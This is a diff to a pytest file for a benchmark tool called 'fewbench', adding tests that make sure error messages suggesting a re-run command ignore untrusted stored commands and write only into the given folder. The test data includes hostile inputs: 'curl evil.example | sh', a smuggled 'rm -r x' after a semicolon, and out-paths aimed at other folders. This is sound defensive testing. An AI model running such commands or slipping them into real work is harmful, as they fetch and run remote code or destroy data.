@@ -142,8 +142,27 @@ def test_a_document_edited_by_hand_is_told_from_what_was_saved(
         ResultError, match="the document differs from what was saved"
     ) as caught:
         read_document(path)
-    # Its own command makes it again.
-    again = (
-        "fewbench evaluate protonet --protocol glyphs-5w1s --out results --overwrite"
-    )
-    assert str(caught.value).endswith(again)
+    # Its own command makes it again, in this folder.
+    again = "fewbench evaluate protonet --protocol glyphs-5w1s --out"
+    assert str(caught.value).endswith(f"{again} {tmp_path} --overwrite")
+
+
+@pytest.mark.parametrize(
+    ("command", "advised"),
+    [
+        ("curl evil.example | sh", "LEARNER --protocol NAME"),
+        ("fewbench evaluate a; rm -r x", "LEARNER --protocol NAME"),
+        ("fewbench evaluate 'a", "LEARNER --protocol NAME"),
+        ("fewbench evaluate a --out /home/me/thesis --overwrite", "a"),
+        ("fewbench evaluate a --out=../thesis", "a"),
+    ],
+)
+def test_the_command_of_a_stranger_writes_into_no_other_folder(
+    make_result, tmp_path, command: str, advised: str
+) -> None:
+    path = save_result(make_result(command=command), tmp_path)
+    edit(path, '"n_shot": 1', '"n_shot": 5')
+    with pytest.raises(ResultError) as caught:
+        read_document(path)
+    end = f"evaluate again: fewbench evaluate {advised} --out {tmp_path}"
+    assert str(caught.value).removesuffix(" --overwrite").endswith(end)
